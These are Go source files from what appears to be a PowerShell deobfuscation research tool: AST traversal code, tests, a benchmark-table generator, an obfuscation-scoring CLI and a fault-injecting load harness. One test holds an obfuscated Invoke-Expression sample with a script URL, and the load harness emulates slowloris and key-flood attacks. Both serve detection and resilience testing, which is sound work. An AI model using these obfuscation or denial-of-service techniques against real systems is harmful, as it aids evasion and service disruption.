func (n *VariableExpression) Kind() Kind { return KindVariableExpression }

// Children implements Node.
func (n *VariableExpression) Children() []Node { return nil }

// Extent implements Node.
func (n *MemberExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *MemberExpression) Kind() Kind { return KindMemberExpression }

// Children implements Node.
func (n *MemberExpression) Children() []Node { return nonNil(n.Target, n.Member) }

// Extent implements Node.
func (n *InvokeMemberExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *InvokeMemberExpression) Kind() Kind { return KindInvokeMemberExpression }

// Children implements Node.
func (n *InvokeMemberExpression) Children() []Node {
	out := nonNil(n.Target, n.Member)
	return append(out, n.Args...)
}

// Extent implements Node.
func (n *IndexExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *IndexExpression) Kind() Kind { return KindIndexExpression }

// Children implements Node.
func (n *IndexExpression) Children() []Node { return nonNil(n.Target, n.Index) }

// Extent implements Node.
func (n *ArrayLiteral) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ArrayLiteral) Kind() Kind { return KindArrayLiteral }

// Children implements Node.
func (n *ArrayLiteral) Children() []Node { return n.Elements }

// Extent implements Node.
func (n *ArrayExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ArrayExpression) Kind() Kind { return KindArrayExpression }

// Children implements Node.
func (n *ArrayExpression) Children() []Node { return n.Statements }

// Extent implements Node.
func (n *SubExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *SubExpression) Kind() Kind { return KindSubExpression }

// Children implements Node.
func (n *SubExpression) Children() []Node { return n.Statements }

// Extent implements Node.
func (n *ParenExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ParenExpression) Kind() Kind { return KindParenExpression }

// Children implements Node.
func (n *ParenExpression) Children() []Node { return nonNil(n.Pipeline) }

// Extent implements Node.
func (n *ScriptBlockExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ScriptBlockExpression) Kind() Kind { return KindScriptBlockExpression }

// Children implements Node.
func (n *ScriptBlockExpression) Children() []Node {
	if n.Body == nil {
		return nil
	}
	return []Node{n.Body}
}

// Extent implements Node.
func (n *Hashtable) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Hashtable) Kind() Kind { return KindHashtable }

// Children implements Node.
func (n *Hashtable) Children() []Node {
	var out []Node
	for _, e := range n.Entries {
		out = append(out, nonNil(e.Key, e.Value)...)
	}
	return out
}
