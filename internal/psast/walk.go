package psast

import (
	"fmt"
	"strings"
)

// Walk traverses the tree rooted at n in depth-first order. pre is called
// before visiting a node's children; returning false skips the subtree.
// post is called after the children (post-order position). Either
// callback may be nil.
func Walk(n Node, pre func(Node) bool, post func(Node)) {
	if n == nil {
		return
	}
	if pre != nil && !pre(n) {
		return
	}
	for _, c := range n.Children() {
		Walk(c, pre, post)
	}
	if post != nil {
		post(n)
	}
}

// PostOrder returns every node of the tree in post-order (children before
// parents), the traversal order used by the recovery and variable-tracing
// phases (paper Algorithm 1).
func PostOrder(root Node) []Node {
	var out []Node
	Walk(root, nil, func(n Node) { out = append(out, n) })
	return out
}

// FindAll returns every node in the tree for which pred returns true.
func FindAll(root Node, pred func(Node) bool) []Node {
	var out []Node
	Walk(root, func(n Node) bool {
		if pred(n) {
			out = append(out, n)
		}
		return true
	}, nil)
	return out
}

// Count returns the number of nodes in the tree.
func Count(root Node) int {
	n := 0
	Walk(root, func(Node) bool { n++; return true }, nil)
	return n
}

// Dump renders the tree as an indented outline, for tests and debugging.
func Dump(root Node, src string) string {
	var sb strings.Builder
	var rec func(n Node, depth int)
	rec = func(n Node, depth int) {
		text := n.Extent().Text(src)
		if len(text) > 48 {
			text = text[:45] + "..."
		}
		fmt.Fprintf(&sb, "%s%s %q\n", strings.Repeat("  ", depth), n.Kind(), text)
		for _, c := range n.Children() {
			rec(c, depth+1)
		}
	}
	rec(root, 0)
	return sb.String()
}

// IsRecoverableKind reports whether k is one of the paper's recoverable
// node kinds (§III-B1): nodes whose content, when executed, often
// produces a string-form result.
func IsRecoverableKind(k Kind) bool {
	switch k {
	case KindPipeline, KindUnaryExpression, KindBinaryExpression,
		KindConvertExpression, KindInvokeMemberExpression, KindSubExpression:
		return true
	}
	return false
}

// IsScopeKind reports whether k changes variable scope depth during
// tracing (paper Algorithm 1): NamedBlockAst, IfStatementAst,
// WhileStatementAst, ForStatementAst, ForEachStatementAst and
// StatementBlockAst.
func IsScopeKind(k Kind) bool {
	switch k {
	case KindNamedBlock, KindIf, KindWhile, KindFor, KindForEach,
		KindStatementBlock:
		return true
	}
	return false
}
