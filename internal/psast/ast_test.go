package psast

import "testing"

func sampleTree() Node {
	// $a = 'x' + 'y'
	lhs := &VariableExpression{Ext: Extent{0, 2}, Name: "a"}
	l := &StringConstant{Ext: Extent{5, 8}, Value: "x"}
	r := &StringConstant{Ext: Extent{11, 14}, Value: "y"}
	bin := &BinaryExpression{Ext: Extent{5, 14}, Operator: "+", Left: l, Right: r}
	ce := &CommandExpression{Ext: Extent{5, 14}, Expression: bin}
	pipe := &Pipeline{Ext: Extent{5, 14}, Elements: []Node{ce}}
	asn := &Assignment{Ext: Extent{0, 14}, Left: lhs, Operator: "=", Right: pipe}
	block := &NamedBlock{Ext: Extent{0, 14}, Statements: []Node{asn}}
	return &ScriptBlock{Ext: Extent{0, 14}, Body: block}
}

func TestWalkOrders(t *testing.T) {
	root := sampleTree()
	var pre, post []Kind
	Walk(root, func(n Node) bool {
		pre = append(pre, n.Kind())
		return true
	}, func(n Node) {
		post = append(post, n.Kind())
	})
	if pre[0] != KindScriptBlock {
		t.Errorf("pre-order starts with %v", pre[0])
	}
	if post[len(post)-1] != KindScriptBlock {
		t.Errorf("post-order ends with %v", post[len(post)-1])
	}
	if len(pre) != len(post) {
		t.Errorf("pre %d != post %d", len(pre), len(post))
	}
}

func TestWalkPrune(t *testing.T) {
	root := sampleTree()
	count := 0
	Walk(root, func(n Node) bool {
		count++
		return n.Kind() != KindAssignment // prune below assignment
	}, nil)
	if count != 3 { // script block, named block, assignment
		t.Errorf("visited %d nodes, want 3", count)
	}
}

func TestPostOrderChildrenFirst(t *testing.T) {
	root := sampleTree()
	seen := map[Kind]int{}
	order := 0
	for _, n := range PostOrder(root) {
		order++
		seen[n.Kind()] = order
	}
	if seen[KindStringConstant] > seen[KindBinaryExpression] {
		t.Error("children not visited before parents")
	}
	if seen[KindBinaryExpression] > seen[KindPipeline] {
		t.Error("expression not before pipeline")
	}
}

func TestFindAllAndCount(t *testing.T) {
	root := sampleTree()
	strs := FindAll(root, func(n Node) bool { return n.Kind() == KindStringConstant })
	if len(strs) != 2 {
		t.Errorf("FindAll strings = %d", len(strs))
	}
	if Count(root) != 9 {
		t.Errorf("Count = %d, want 9", Count(root))
	}
}

func TestExtentHelpers(t *testing.T) {
	e := Extent{Start: 2, End: 5}
	if e.Len() != 3 {
		t.Errorf("Len = %d", e.Len())
	}
	if e.Text("0123456789") != "234" {
		t.Errorf("Text = %q", e.Text("0123456789"))
	}
	if !e.Contains(Extent{3, 4}) || e.Contains(Extent{1, 4}) {
		t.Error("Contains broken")
	}
	if (Extent{Start: -1, End: 3}).Text("ab") != "" {
		t.Error("out-of-range Text should be empty")
	}
}

func TestRecoverableKinds(t *testing.T) {
	// Exactly the paper's six recoverable node types (§III-B1).
	recoverable := []Kind{
		KindPipeline, KindUnaryExpression, KindBinaryExpression,
		KindConvertExpression, KindInvokeMemberExpression, KindSubExpression,
	}
	for _, k := range recoverable {
		if !IsRecoverableKind(k) {
			t.Errorf("IsRecoverableKind(%v) = false", k)
		}
	}
	for _, k := range []Kind{KindCommand, KindStringConstant, KindMemberExpression, KindHashtable} {
		if IsRecoverableKind(k) {
			t.Errorf("IsRecoverableKind(%v) = true", k)
		}
	}
}

func TestScopeKinds(t *testing.T) {
	// Exactly the paper's six scope-changing node types (Algorithm 1).
	scoped := []Kind{
		KindNamedBlock, KindIf, KindWhile, KindFor, KindForEach,
		KindStatementBlock,
	}
	for _, k := range scoped {
		if !IsScopeKind(k) {
			t.Errorf("IsScopeKind(%v) = false", k)
		}
	}
	if IsScopeKind(KindPipeline) || IsScopeKind(KindCommand) {
		t.Error("non-scope kind reported scoped")
	}
}

func TestKindNames(t *testing.T) {
	// The names mirror System.Management.Automation.Language classes.
	tests := map[Kind]string{
		KindPipeline:               "PipelineAst",
		KindBinaryExpression:       "BinaryExpressionAst",
		KindInvokeMemberExpression: "InvokeMemberExpressionAst",
		KindVariableExpression:     "VariableExpressionAst",
	}
	for k, want := range tests {
		if k.String() != want {
			t.Errorf("%d.String() = %q, want %q", k, k.String(), want)
		}
	}
}
