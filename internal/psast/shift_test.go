package psast_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// shiftScript exercises a broad slice of node kinds: assignments,
// pipelines, commands with parameters, member and index access,
// operators, conditionals, loops, functions, try/catch, arrays,
// hashtables, sub-expressions and expandable strings.
const shiftScript = `$a = 'x' + 'y'
$b = @(1, 2, 3)
$h = @{k = 'v'; n = 42}
$s = "pre $a post"
if ($a -eq 'xy') { Write-Output $a } else { Write-Output 'no' }
foreach ($i in $b) { $sum += $i }
while ($sum -gt 100) { $sum = $sum - 1 }
function Get-Thing($p) { return $p.Length }
try { $r = [math]::Max(1, 2) } catch { $r = 0 }
$t = $h['k'].ToUpper()
$u = $(Get-Thing 'abc') * 2
& cmd /c echo hi | Out-Null
`

// TestShiftMatchesReparseAtOffset pins Shift's one job: a subtree
// parsed at offset zero and shifted by delta must be deep-equal to the
// same source parsed at byte offset delta. Prefixing whitespace-only
// lines moves every extent without changing structure, which gives the
// parser-built ground truth.
func TestShiftMatchesReparseAtOffset(t *testing.T) {
	pad := strings.Repeat("\n", 7)
	base, err := psparser.Parse(shiftScript)
	if err != nil {
		t.Fatalf("parse base: %v", err)
	}
	moved, err := psparser.Parse(pad + shiftScript)
	if err != nil {
		t.Fatalf("parse padded: %v", err)
	}
	if len(base.Body.Statements) != len(moved.Body.Statements) {
		t.Fatalf("statement count changed under padding: %d vs %d",
			len(base.Body.Statements), len(moved.Body.Statements))
	}
	for i, st := range base.Body.Statements {
		shifted := psast.Shift(st, len(pad))
		if shifted == nil {
			t.Fatalf("Shift returned nil for statement %d (%T)", i, st)
		}
		if !reflect.DeepEqual(shifted, moved.Body.Statements[i]) {
			t.Errorf("statement %d (%T): shifted copy diverges from reparse at offset\nshift: %#v\nparse: %#v",
				i, st, shifted, moved.Body.Statements[i])
		}
	}
}

// TestShiftZeroSharesStructure pins the delta-zero fast path: cached
// ASTs are immutable, so an unshifted reuse may alias the input.
func TestShiftZeroSharesStructure(t *testing.T) {
	root, err := psparser.Parse(shiftScript)
	if err != nil {
		t.Fatal(err)
	}
	for _, st := range root.Body.Statements {
		if got := psast.Shift(st, 0); got != st {
			t.Fatalf("Shift(%T, 0) returned a copy, want the same node", st)
		}
	}
	if psast.Shift(nil, 3) != nil {
		t.Fatal("Shift(nil) != nil")
	}
}

// TestShiftDoesNotMutateInput verifies Shift is a copy, not an in-place
// offset: the original extents must be untouched afterwards.
func TestShiftDoesNotMutateInput(t *testing.T) {
	root, err := psparser.Parse(shiftScript)
	if err != nil {
		t.Fatal(err)
	}
	before := make([]psast.Extent, len(root.Body.Statements))
	for i, st := range root.Body.Statements {
		before[i] = st.Extent()
	}
	for _, st := range root.Body.Statements {
		psast.Shift(st, 1000)
	}
	for i, st := range root.Body.Statements {
		if st.Extent() != before[i] {
			t.Fatalf("statement %d extent mutated: %v -> %v", i, before[i], st.Extent())
		}
	}
}
