package main

import (
	"bytes"
	"errors"
	"flag"
	"strings"
	"testing"
)

// TestRunQuickTable2 smoke-tests the main emit path: -quick -table 2
// must render a non-empty recovery-rate table without touching the
// filesystem or flags global state.
func TestRunQuickTable2(t *testing.T) {
	var out, errBuf bytes.Buffer
	if err := run([]string{"-quick", "-table", "2", "-samples", "8"}, &out, &errBuf); err != nil {
		t.Fatalf("run: %v (stderr: %s)", err, errBuf.String())
	}
	got := out.String()
	if len(strings.TrimSpace(got)) == 0 {
		t.Fatal("quick table 2 produced no output")
	}
	// The table must look like a rendered table, not a stray error
	// string: multiple lines with a header separator of some kind.
	if strings.Count(got, "\n") < 3 {
		t.Errorf("table output suspiciously short:\n%s", got)
	}
}

// TestRunQuickFunnel covers a second, structurally different emitter.
func TestRunQuickFunnel(t *testing.T) {
	var out, errBuf bytes.Buffer
	if err := run([]string{"-quick", "-funnel", "-samples", "8"}, &out, &errBuf); err != nil {
		t.Fatalf("run: %v (stderr: %s)", err, errBuf.String())
	}
	if len(strings.TrimSpace(out.String())) == 0 {
		t.Fatal("funnel produced no output")
	}
}

// TestRunNothingSelected: an empty invocation prints usage and reports
// the sentinel instead of silently succeeding.
func TestRunNothingSelected(t *testing.T) {
	var out, errBuf bytes.Buffer
	err := run(nil, &out, &errBuf)
	if !errors.Is(err, errNothingSelected) {
		t.Fatalf("run(nil) = %v, want errNothingSelected", err)
	}
	if !strings.Contains(errBuf.String(), "-table") {
		t.Error("usage text not written to stderr")
	}
}

// TestRunBadFlag: flag errors surface as errors, not os.Exit.
func TestRunBadFlag(t *testing.T) {
	var out, errBuf bytes.Buffer
	if err := run([]string{"-no-such-flag"}, &out, &errBuf); err == nil || errors.Is(err, flag.ErrHelp) {
		t.Fatalf("run with unknown flag = %v, want parse error", err)
	}
}
