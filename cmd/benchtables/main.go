// Command benchtables regenerates every table and figure of the
// paper's evaluation section on the synthetic wild corpus.
//
// Usage:
//
//	benchtables -all                # every experiment, paper-scale
//	benchtables -table 2           # one table (1,2,3,4,5)
//	benchtables -figure 5          # one figure (5,6)
//	benchtables -ablation          # engine ablations
//	benchtables -quick -all        # reduced latency and sample counts
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/invoke-deobfuscation/invokedeob/internal/experiments"
)

func main() {
	var (
		tableN   = flag.Int("table", 0, "run one table (1-5)")
		figureN  = flag.Int("figure", 0, "run one figure (5 or 6)")
		all      = flag.Bool("all", false, "run every experiment")
		ablation = flag.Bool("ablation", false, "run the engine ablations")
		amsi     = flag.Bool("amsi", false, "run the AMSI comparison (paper §V-B)")
		funnel   = flag.Bool("funnel", false, "run the dataset preprocessing funnel (paper §IV-B1)")
		quick    = flag.Bool("quick", false, "reduced sample counts and simulated latency")
		samples  = flag.Int("samples", 0, "override the sample count")
		seed     = flag.Int64("seed", 0, "override the corpus seed")
	)
	flag.Parse()
	cfg := experiments.Config{Seed: *seed, Samples: *samples, Quick: *quick}
	ran := false
	show := func(s fmt.Stringer) {
		fmt.Println(s)
		fmt.Println()
		ran = true
	}
	if *all || *tableN == 1 {
		show(experiments.Table1(cfg))
	}
	if *all || *tableN == 2 {
		show(experiments.Table2(cfg))
	}
	if *all || *figureN == 5 {
		show(experiments.Figure5(cfg))
	}
	if *all || *figureN == 6 {
		show(experiments.Figure6(cfg))
	}
	if *all || *tableN == 3 {
		show(experiments.Table3(cfg))
	}
	if *all || *tableN == 4 {
		show(experiments.Table4(cfg))
	}
	if *all || *tableN == 5 {
		show(experiments.Table5(cfg))
	}
	if *all || *ablation {
		show(experiments.Ablation(cfg))
	}
	if *all || *amsi {
		show(experiments.AMSIComparison(cfg))
	}
	if *all || *funnel {
		show(experiments.DatasetFunnel(cfg))
	}
	if !ran {
		flag.Usage()
		os.Exit(2)
	}
}
