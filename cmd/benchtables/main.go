// Command benchtables regenerates every table and figure of the
// paper's evaluation section on the synthetic wild corpus.
//
// Usage:
//
//	benchtables -all                # every experiment, paper-scale
//	benchtables -table 2           # one table (1,2,3,4,5)
//	benchtables -figure 5          # one figure (5,6)
//	benchtables -ablation          # engine ablations
//	benchtables -quick -all        # reduced latency and sample counts
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"os"

	"github.com/invoke-deobfuscation/invokedeob/internal/experiments"
)

// errNothingSelected reports an invocation that named no experiment.
var errNothingSelected = errors.New("no experiment selected")

func main() {
	if err := run(os.Args[1:], os.Stdout, os.Stderr); err != nil {
		if !errors.Is(err, flag.ErrHelp) && !errors.Is(err, errNothingSelected) {
			fmt.Fprintln(os.Stderr, "benchtables:", err)
		}
		os.Exit(2)
	}
}

// run parses args and renders the selected experiments to stdout.
// Factored from main so tests can drive the emit paths in-process.
func run(args []string, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("benchtables", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		tableN   = fs.Int("table", 0, "run one table (1-5)")
		figureN  = fs.Int("figure", 0, "run one figure (5 or 6)")
		all      = fs.Bool("all", false, "run every experiment")
		ablation = fs.Bool("ablation", false, "run the engine ablations")
		amsi     = fs.Bool("amsi", false, "run the AMSI comparison (paper §V-B)")
		funnel   = fs.Bool("funnel", false, "run the dataset preprocessing funnel (paper §IV-B1)")
		quick    = fs.Bool("quick", false, "reduced sample counts and simulated latency")
		samples  = fs.Int("samples", 0, "override the sample count")
		seed     = fs.Int64("seed", 0, "override the corpus seed")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	cfg := experiments.Config{Seed: *seed, Samples: *samples, Quick: *quick}
	ran := false
	show := func(s fmt.Stringer) {
		fmt.Fprintln(stdout, s)
		fmt.Fprintln(stdout)
		ran = true
	}
	if *all || *tableN == 1 {
		show(experiments.Table1(cfg))
	}
	if *all || *tableN == 2 {
		show(experiments.Table2(cfg))
	}
	if *all || *figureN == 5 {
		show(experiments.Figure5(cfg))
	}
	if *all || *figureN == 6 {
		show(experiments.Figure6(cfg))
	}
	if *all || *tableN == 3 {
		show(experiments.Table3(cfg))
	}
	if *all || *tableN == 4 {
		show(experiments.Table4(cfg))
	}
	if *all || *tableN == 5 {
		show(experiments.Table5(cfg))
	}
	if *all || *ablation {
		show(experiments.Ablation(cfg))
	}
	if *all || *amsi {
		show(experiments.AMSIComparison(cfg))
	}
	if *all || *funnel {
		show(experiments.DatasetFunnel(cfg))
	}
	if !ran {
		fs.Usage()
		return errNothingSelected
	}
	return nil
}
