// Command psscore reports the obfuscation techniques detected in a
// PowerShell script and its obfuscation score (paper §IV-B2), plus the
// key information it exposes.
//
// Usage:
//
//	psscore [script.ps1]
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func main() {
	if err := run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "psscore:", err)
		os.Exit(1)
	}
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("psscore", flag.ContinueOnError)
	fs.SetOutput(stderr)
	quiet := fs.Bool("q", false, "print only the numeric score")
	if err := fs.Parse(args); err != nil {
		return err
	}
	script, err := readInput(fs.Args(), stdin)
	if err != nil {
		return err
	}
	scoreValue := invokedeob.ObfuscationScore(script)
	if *quiet {
		fmt.Fprintln(stdout, scoreValue)
		return nil
	}
	fmt.Fprintf(stdout, "score: %d\n", scoreValue)
	for _, d := range invokedeob.AnalyzeObfuscation(script) {
		fmt.Fprintf(stdout, "L%d  %-22s x%d\n", d.Level, d.Technique, d.Count)
	}
	iocs := invokedeob.ExtractIOCs(script)
	if iocs.Count() > 0 {
		fmt.Fprintln(stdout, "key information:")
		for _, u := range iocs.URLs {
			fmt.Fprintf(stdout, "  url  %s\n", u)
		}
		for _, ip := range iocs.IPs {
			fmt.Fprintf(stdout, "  ip   %s\n", ip)
		}
		for _, p := range iocs.Ps1Files {
			fmt.Fprintf(stdout, "  ps1  %s\n", p)
		}
		for _, c := range iocs.PowerShellCommands {
			fmt.Fprintf(stdout, "  pwsh %s\n", c)
		}
	}
	return nil
}

func readInput(args []string, stdin io.Reader) (string, error) {
	if len(args) > 1 {
		return "", fmt.Errorf("expected at most one script file, got %d", len(args))
	}
	if len(args) == 1 {
		b, err := os.ReadFile(args[0])
		if err != nil {
			return "", err
		}
		return string(b), nil
	}
	b, err := io.ReadAll(stdin)
	if err != nil {
		return "", err
	}
	return string(b), nil
}
