package main

import (
	"bytes"
	"strings"
	"testing"
)

func TestScoreOutput(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("i`ex ('a'+'b') # http://score.test/x.ps1")
	if err := run(nil, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	out := stdout.String()
	if !strings.Contains(out, "score:") {
		t.Errorf("score missing: %q", out)
	}
	if !strings.Contains(out, "concat") || !strings.Contains(out, "ticking") {
		t.Errorf("detections missing: %q", out)
	}
	if !strings.Contains(out, "http://score.test/x.ps1") {
		t.Errorf("key info missing: %q", out)
	}
}

func TestQuietMode(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("write-host clean")
	if err := run([]string{"-q"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(stdout.String()); got != "0" {
		t.Errorf("quiet score = %q", got)
	}
}
