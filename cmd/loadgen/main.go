// Command loadgen is the fault-injecting load harness for deobserver.
// It drives a mixed stream of duplicated, distinct, heavy and hostile
// traffic at a target QPS against a live server, injects client-side
// faults (mid-body disconnects, slow-loris bodies, oversize scripts,
// quota-busting key floods), and reports per-class p50/p99 latency,
// status counts and goodput, plus the server's own /statsz deltas
// (shed/429/503/504 counters, cost classes, quota activity).
//
// Traffic classes, weighted by -mix:
//
//	light       small distinct scripts — the traffic that must survive
//	dup         one fixed light script repeated (cache-amortized)
//	heavy       large high-entropy base64 payload scripts (sheddable)
//
// Light, dup and heavy rotate over -tenants distinct X-Api-Key values
// (many ordinary users — heavy load is expensive, not high-volume, so
// shedding rather than the quota must catch it); the fault classes
// share one hostile key, so per-tenant quotas can contain them.
//
//	oversize    scripts past the server's -max-script (expect 413)
//	disconnect  client aborts mid-body (fault injection)
//	slowloris   body trickled byte-by-byte (fault injection)
//	keyflood    distinct X-Api-Key per request (quota LRU churn)
//	quotabuster one hostile key hammering its bucket (expect 429s)
//
// With -assert-* flags set, loadgen exits non-zero when the measured
// light-traffic SLOs fail, which is what lets `make loadtest` convert
// "the service degrades gracefully" into a checkable property:
//
//	loadgen -url http://127.0.0.1:8713 -qps 150 -duration 10s \
//	    -assert-light-p99 2s -assert-light-success 0.5
//
// The report is written as JSON to -json (and a summary to stdout).
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// The traffic classes. Order here is the report order.
var classOrder = []string{"light", "dup", "heavy", "oversize", "disconnect", "slowloris", "keyflood", "quotabuster"}

// defaultMix is the class weighting used when -mix is not given.
const defaultMix = "light=40,dup=20,heavy=15,oversize=5,disconnect=5,slowloris=3,keyflood=6,quotabuster=6"

func main() {
	code, err := run(os.Args[1:], os.Stdout, os.Stderr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "loadgen:", err)
	}
	os.Exit(code)
}

type options struct {
	url           string
	qps           float64
	duration      time.Duration
	workers       int
	mix           map[string]int
	seed          int64
	apiKey        string
	tenants       int
	timeout       time.Duration
	heavyBytes    int
	oversizeBytes int
	slowTime      time.Duration
	jsonPath      string

	assertLightP99     time.Duration
	assertLightSuccess float64
	assertMaxLight5xx  float64
}

// run parses flags, drives the load, prints the report and evaluates
// assertions. Returns the process exit code.
func run(args []string, stdout, stderr io.Writer) (int, error) {
	fs := flag.NewFlagSet("loadgen", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		url        = fs.String("url", "", "base URL of the target server (required), e.g. http://127.0.0.1:8713")
		qps        = fs.Float64("qps", 100, "target offered load in requests/second")
		duration   = fs.Duration("duration", 10*time.Second, "how long to drive traffic")
		workers    = fs.Int("workers", 64, "max concurrent in-flight requests; ticks past this are counted harness_dropped")
		mixFlag    = fs.String("mix", defaultMix, "class weights as name=weight, comma separated")
		seed       = fs.Int64("seed", 1, "PRNG seed (traffic is deterministic given seed+qps+duration)")
		apiKey     = fs.String("api-key", "loadgen", "X-Api-Key prefix; light/dup traffic spreads over -tenants keys, heavy/hostile classes share one")
		tenants    = fs.Int("tenants", 16, "distinct tenant keys the light/dup classes rotate through")
		timeout    = fs.Duration("timeout", 10*time.Second, "per-request client timeout")
		heavyBytes = fs.Int("heavy-bytes", 48<<10, "payload size of heavy-class scripts")
		oversize   = fs.Int("oversize-bytes", 2<<20, "script size for the oversize class (should exceed the server's -max-script)")
		slowTime   = fs.Duration("slowloris-time", 2*time.Second, "how long a slowloris body trickles before completing")
		jsonPath   = fs.String("json", "", "write the full JSON report to this path")

		assertP99     = fs.Duration("assert-light-p99", 0, "fail unless served light-traffic p99 latency is at or below this (0 = no assertion)")
		assertSuccess = fs.Float64("assert-light-success", 0, "fail unless the fraction of light traffic answered 200 is at least this (0 = no assertion)")
		assertMax5xx  = fs.Float64("assert-max-light-5xx", -1, "fail if the fraction of light traffic answered 5xx exceeds this (negative = no assertion)")
	)
	if err := fs.Parse(args); err != nil {
		return 2, nil
	}
	if *url == "" {
		fs.Usage()
		return 2, fmt.Errorf("-url is required")
	}
	mix, err := parseMix(*mixFlag)
	if err != nil {
		return 2, err
	}
	opts := options{
		url: strings.TrimRight(*url, "/"), qps: *qps, duration: *duration,
		workers: *workers, mix: mix, seed: *seed, apiKey: *apiKey, tenants: *tenants,
		timeout: *timeout, heavyBytes: *heavyBytes, oversizeBytes: *oversize,
		slowTime: *slowTime, jsonPath: *jsonPath,
		assertLightP99: *assertP99, assertLightSuccess: *assertSuccess,
		assertMaxLight5xx: *assertMax5xx,
	}

	rep, err := drive(opts)
	if err != nil {
		return 2, err
	}
	printSummary(stdout, rep)
	if opts.jsonPath != "" {
		b, _ := json.MarshalIndent(rep, "", "  ")
		if err := os.WriteFile(opts.jsonPath, append(b, '\n'), 0o644); err != nil {
			return 2, err
		}
		fmt.Fprintf(stdout, "loadgen: report written to %s\n", opts.jsonPath)
	}
	if fails := rep.SLO.Failures; len(fails) > 0 {
		for _, f := range fails {
			fmt.Fprintln(stderr, "loadgen: SLO FAIL:", f)
		}
		return 1, nil
	}
	if rep.SLO.Asserted {
		fmt.Fprintln(stdout, "loadgen: SLO PASS")
	}
	return 0, nil
}

// parseMix parses "light=40,heavy=10" into weights, rejecting unknown
// classes and non-positive weights.
func parseMix(s string) (map[string]int, error) {
	known := map[string]bool{}
	for _, c := range classOrder {
		known[c] = true
	}
	mix := map[string]int{}
	for _, part := range strings.Split(s, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		name, val, ok := strings.Cut(part, "=")
		if !ok {
			return nil, fmt.Errorf("bad mix entry %q: want name=weight", part)
		}
		if !known[name] {
			return nil, fmt.Errorf("unknown traffic class %q (have %s)", name, strings.Join(classOrder, ", "))
		}
		w, err := strconv.Atoi(val)
		if err != nil || w < 0 {
			return nil, fmt.Errorf("bad weight in %q: want a non-negative integer", part)
		}
		if w > 0 {
			mix[name] = w
		}
	}
	if len(mix) == 0 {
		return nil, fmt.Errorf("mix %q selects no traffic", s)
	}
	return mix, nil
}

// pickClass selects a class by weight from rng.
func pickClass(rng *rand.Rand, mix map[string]int) string {
	total := 0
	for _, c := range classOrder {
		total += mix[c]
	}
	n := rng.Intn(total)
	for _, c := range classOrder {
		n -= mix[c]
		if n < 0 {
			return c
		}
	}
	return classOrder[0] // unreachable with a valid mix
}

// classStats accumulates one class's outcomes.
type classStats struct {
	sent      int64
	transport int64 // transport-level failures (includes injected aborts)
	statuses  map[int]int64
	latencies []float64 // ms, only for requests that got a response
}

// recorder is the shared, mutex-guarded result sink.
type recorder struct {
	mu      sync.Mutex
	classes map[string]*classStats
	dropped int64 // ticks skipped because all workers were busy
}

func newRecorder() *recorder {
	r := &recorder{classes: map[string]*classStats{}}
	for _, c := range classOrder {
		r.classes[c] = &classStats{statuses: map[int]int64{}}
	}
	return r
}

func (r *recorder) record(class string, status int, latency time.Duration, transportErr bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	cs := r.classes[class]
	cs.sent++
	if transportErr {
		cs.transport++
		return
	}
	cs.statuses[status]++
	cs.latencies = append(cs.latencies, float64(latency)/float64(time.Millisecond))
}

// drive runs the load loop and assembles the report.
func drive(opts options) (*report, error) {
	client := &http.Client{Timeout: opts.timeout}
	before, err := scrapeStatsz(client, opts.url)
	if err != nil {
		return nil, fmt.Errorf("scraping /statsz before the run: %w", err)
	}

	rec := newRecorder()
	rng := rand.New(rand.NewSource(opts.seed))
	sem := make(chan struct{}, opts.workers)
	var wg sync.WaitGroup
	interval := time.Duration(float64(time.Second) / opts.qps)
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	deadline := time.Now().Add(opts.duration)
	gen := newTrafficGen(opts, rng)

	start := time.Now()
	for time.Now().Before(deadline) {
		<-ticker.C
		class := pickClass(rng, opts.mix)
		req := gen.next(class)
		select {
		case sem <- struct{}{}:
		default:
			// All workers busy: the harness itself is the bottleneck.
			// Count it so offered-vs-dispatched is honest in the report.
			rec.mu.Lock()
			rec.dropped++
			rec.mu.Unlock()
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			status, lat, terr := req.fire(client, opts)
			rec.record(req.class, status, lat, terr)
		}()
	}
	wg.Wait()
	elapsed := time.Since(start)

	after, err := scrapeStatsz(client, opts.url)
	if err != nil {
		return nil, fmt.Errorf("scraping /statsz after the run: %w", err)
	}
	return buildReport(opts, rec, elapsed, before, after), nil
}

// trafficGen builds one request per tick, deterministically from the
// shared rng.
type trafficGen struct {
	opts options
	rng  *rand.Rand
	n    int
	// dupScript is the one fixed script the dup class repeats.
	dupScript string
}

func newTrafficGen(opts options, rng *rand.Rand) *trafficGen {
